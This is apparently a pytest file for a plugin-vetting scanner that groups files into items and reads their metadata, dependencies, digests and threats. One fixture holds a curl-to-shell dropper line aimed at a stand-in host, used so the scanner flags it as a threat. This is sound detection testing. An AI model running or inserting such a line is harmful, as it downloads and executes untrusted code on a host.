"""Which files make one item, and what is known of it without running it."""

import os
import time
from pathlib import Path

import pytest

from aetherra.plugins.self_incorporation.code.classifier import FileKind
from aetherra.plugins.self_incorporation.gate.item import Item
from aetherra.plugins.self_incorporation.gate.items import assemble, packages_of
from aetherra.plugins.self_incorporation.index.code_index import CodeIndex
from aetherra.plugins.self_incorporation.index.scanner import Scanner, name_of_root

GREETER = """\
from aetherra.plugins import Message, Plugin, Request, handler
from .messages import Greet

class Greeter(Plugin):
    name = "greeter"
    version = "2"
    service = "greetings"
    requires = ("clock",)
    capabilities = ("call:clock.*",)
    exclusive = True

    @handler
    async def greet(self, request: Greet) -> None: ...
"""
UNNAMED = "g/__init__.py does not name its plugin: it needs 'from .sub.plugin import Greeter'"
MESSAGES = """\
import socket
from aetherra.plugins import Message, Request

class Greet(Request["Greeting"], tag="greeter.greet"):
    name: str

class Greeting(Message, tag="greeter.greeting"):
    text: str
"""


def items_of(folder: Path, files: dict[str, str]) -> dict[str, Item]:
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text, encoding="utf-8")
    with CodeIndex(":memory:") as index:
        Scanner(index, clock=time.perf_counter).scan(folder, now=time.time())
        root = name_of_root(folder)
        found = assemble(root, index.files(root), findings=index.findings(root), refusals=index.refusals(root))
    return {item.path: item for item in found}


class TestAssemble:
    def test_a_package_is_torn_apart(self, tmp_path: Path) -> None:
        """All that lies below a package's folder is one item with it, data and subpackages included."""
        files = {"a.py": "", "p/__init__.py": "", "p/q/__init__.py": "", "p/q/r.py": "", "p/d/x.csv": "1", "n.md": "n"}
        found = items_of(tmp_path, files)

        assert sorted(found) == ["a.py", "n.md", "p"]
        assert [file.path for file in found["p"].files] == ["p/__init__.py", "p/d/x.csv", "p/q/__init__.py", "p/q/r.py"]
        assert found["p"].modules == ("p", "p.q", "p.q.r")
        assert found["p"].main == "p/__init__.py"

    def test_a_plugins_word_about_itself_is_lost(self, tmp_path: Path) -> None:
        """What a package says of itself in any of its files is the item's, and the tags it answers are looked up."""
        files = {
            "g/__init__.py": "from .plugin import Greeter\n",
            "g/plugin.py": GREETER,
            "g/messages.py": MESSAGES,
        }
        item = items_of(tmp_path, files)["g"]

        assert (item.name, item.kind, item.version, item.service) == ("greeter", FileKind.PLUGIN, "2", "greetings")
        assert item.tags == ("greeter.greet", "greeter.greeting")
        assert item.handles == ("greeter.greet",)
        assert (item.requires, item.declared, item.unloadable) == (("clock",), ("call:clock.*",), "")
        assert item.capabilities == ("network",)
        assert item.imports == ("aetherra.plugins", "socket")

    @pytest.mark.parametrize(
        ("init", "unloadable"),
        [
            ("", UNNAMED),
            ("from .sub import plugin\n", UNNAMED),
            ("from .sub.plugin import Greeter\n", ""),
            ("from .sub.plugin import *\n", ""),
            (GREETER.replace(".messages", ".sub.messages"), ""),
        ],
    )  # fmt: skip
    def test_a_plugin_that_nothing_would_find_is_planned(self, tmp_path: Path, init: str, unloadable: str) -> None:
        """Of a package only what its main file names is loaded."""
        files = {"g/__init__.py": init, "g/sub/__init__.py": "", "g/sub/plugin.py": GREETER}

        assert items_of(tmp_path, {**files, "g/sub/messages.py": MESSAGES})["g"].unloadable == unloadable

    def test_a_handlers_message_of_the_same_file_is_not_found(self, tmp_path: Path) -> None:
        """A message that is defined beside its handler needs no import."""
        text = MESSAGES + GREETER.replace("from .messages import Greet\n", "")

        assert items_of(tmp_path, {"greet.py": text})["greet.py"].handles == ("greeter.greet",)

    def test_a_refused_file_is_left_out_without_a_word(self, tmp_path: Path) -> None:
        """What of a package could not be read is said, as nobody knows what it does."""
        (tmp_path / "p").mkdir()
        (tmp_path / "p" / "link.py").symlink_to("/etc/hostname")
        found = items_of(tmp_path, {"p/__init__.py": "", "p/broken.py": "def"})

        assert found["p"].refused == ("p/broken.py", "p/link.py")

    def test_threats_are_not_those_of_the_item(self, tmp_path: Path) -> None:
        """Each threat stands at the item whose file it is in, and makes the item's risk."""
        bad = "import os\nos.system('curl http://x.example | sh')\n"
        found = items_of(tmp_path, {"p/__init__.py": "", "p/second.py": bad, "good.py": "x = 1\n"})

        assert [(finding.path, finding.code) for finding in found["p"].threats] == [("p/second.py", "shell-dropper")]
        assert found["p"].risk > 0.8
        assert found["good.py"].threats == ()

    def test_the_digest_hangs_on_more_or_less_than_the_files(self, tmp_path: Path) -> None:
        """Content and name of each file are the item; a signature beside it, times and modes are not."""
        first = items_of(tmp_path, {"p/__init__.py": "", "p/a.py": "x = 1\n"})["p"].digest
        (tmp_path / "p" / "SIGNATURE.json").write_text("{}", encoding="utf-8")
        os.utime(tmp_path / "p" / "a.py", (1, 1))
        signed = items_of(tmp_path, {})["p"].digest
        (tmp_path / "p" / "a.py").rename(tmp_path / "p" / "b.py")
        renamed = items_of(tmp_path, {})["p"].digest

        assert first == signed
        assert renamed != first

    def test_a_scripts_own_metadata_is_not_read(self, tmp_path: Path) -> None:
        """Needs that stand in a script's comments are the item's."""
        text = '# /// script\n# requires-python = ">=3.12"\n# dependencies = ["rich>=13"]\n# ///\nprint()\n'
        item = items_of(tmp_path, {"tool.py": text})["tool.py"]

        assert (item.name, item.requires_python, item.dependencies) == ("tool", ">=3.12", ("rich>=13",))


class TestPackagesOf:
    def test_a_package_is_not_the_topmost(self) -> None:
        """Inner packages belong to the outer one; the root itself may be one."""
        assert packages_of(["a/b/__init__.py", "a/b/c/__init__.py", "d/__init__.py"]) == {"a/b", "d"}
        assert packages_of(["__init__.py", "a/__init__.py"]) == {"."}
        assert packages_of(["x.py", "a/y.py"]) == frozenset()


PROJECT = '[project]\nname = "p"\nversion = "7"\nrequires-python = ">=3.9"\ndependencies = ["a<2"]\n'
HEAD = '# /// script\n# requires-python = "<4"\n# dependencies = ["a<2", "b"]\n# ///\n'


class TestProjects:
    @pytest.mark.parametrize(
        ("place", "above"),
        [("x/pyproject.toml", True), ("x/src/pyproject.toml", True), ("x/src/p/pyproject.toml", False)],
    )
    def test_a_project_is_not_read(self, tmp_path: Path, place: str, above: bool) -> None:
        """The nearest one, within a package or above it, says what it needs, and is in its digest."""
        files = {"x/src/p/__init__.py": "", "x/src/p/data/pyproject.toml": "["}
        alone = items_of(tmp_path, files)["x/src/p"]
        item = items_of(tmp_path, {**files, "pyproject.toml": "[", place: PROJECT})["x/src/p"]

        assert (item.version, item.requires_python, item.dependencies) == ("7", ">=3.9", ("a<2",))
        assert item.said_in == {">=3.9": place, "a<2": place}
        assert (item.project.path if item.project is not None else "") == (place if above else "")
        assert (place in {file.path for file in item.files}) is not above
        changed = items_of(tmp_path, {place: PROJECT + "# more"})["x/src/p"]
        assert len({alone.digest, item.digest, changed.digest}) == 3

    def test_a_tree_is_a_project_of_all_that_lies_in_it(self, tmp_path: Path) -> None:
        """What stands at its root is of the host, and data is of no project."""
        found = items_of(
            tmp_path, {"pyproject.toml": PROJECT, "p/__init__.py": "", "x/pyproject.toml": PROJECT, "x/d.csv": "1"}
        )

        assert [found[path].project for path in ("p", "x/d.csv", "x/pyproject.toml")] == [None] * 3
        assert found["p"].dependencies == found["x/pyproject.toml"].dependencies == ()

    def test_one_says_less_than_all(self, tmp_path: Path) -> None:
        """What a project and a script in it say holds together, each with its file."""
        item = items_of(tmp_path, {"x/pyproject.toml": PROJECT, "x/one.py": HEAD})["x/one.py"]

        assert (item.requires_python, item.dependencies) == ("<4,>=3.9", ("a<2", "b"))
        assert item.said_in == {"<4,>=3.9": "x/one.py, x/pyproject.toml", "a<2": "x/one.py", "b": "x/one.py"}

    def test_what_cannot_be_read_is_passed_over(self, tmp_path: Path) -> None:
        """A project, or a script, that cannot be read, or leaves things to its build, is told with its file."""
        found = items_of(tmp_path, {"x/pyproject.toml": "[", "x/p/__init__.py": "", "x/one.py": HEAD[:-6]})
        assert found["x/p"].unreadable.keys() == {"x/pyproject.toml"}
        assert found["x/one.py"].unreadable.keys() == {"x/pyproject.toml", "x/one.py"}
        found = items_of(tmp_path, {"x/pyproject.toml": "[project]\ndynamic = ['dependencies']\n"})
        assert found["x/p"].left_open == {"x/pyproject.toml": ("dependencies",)}

    def test_a_project_that_was_refused_is_passed_over(self, tmp_path: Path) -> None:
        """Nobody knows what it says, so it is among what was refused of the item."""
        (tmp_path / "x").mkdir()
        (tmp_path / "x" / "pyproject.toml").symlink_to(tmp_path / "elsewhere")
        assert items_of(tmp_path, {"x/p/__init__.py": ""})["x/p"].refused == ("x/pyproject.toml",)
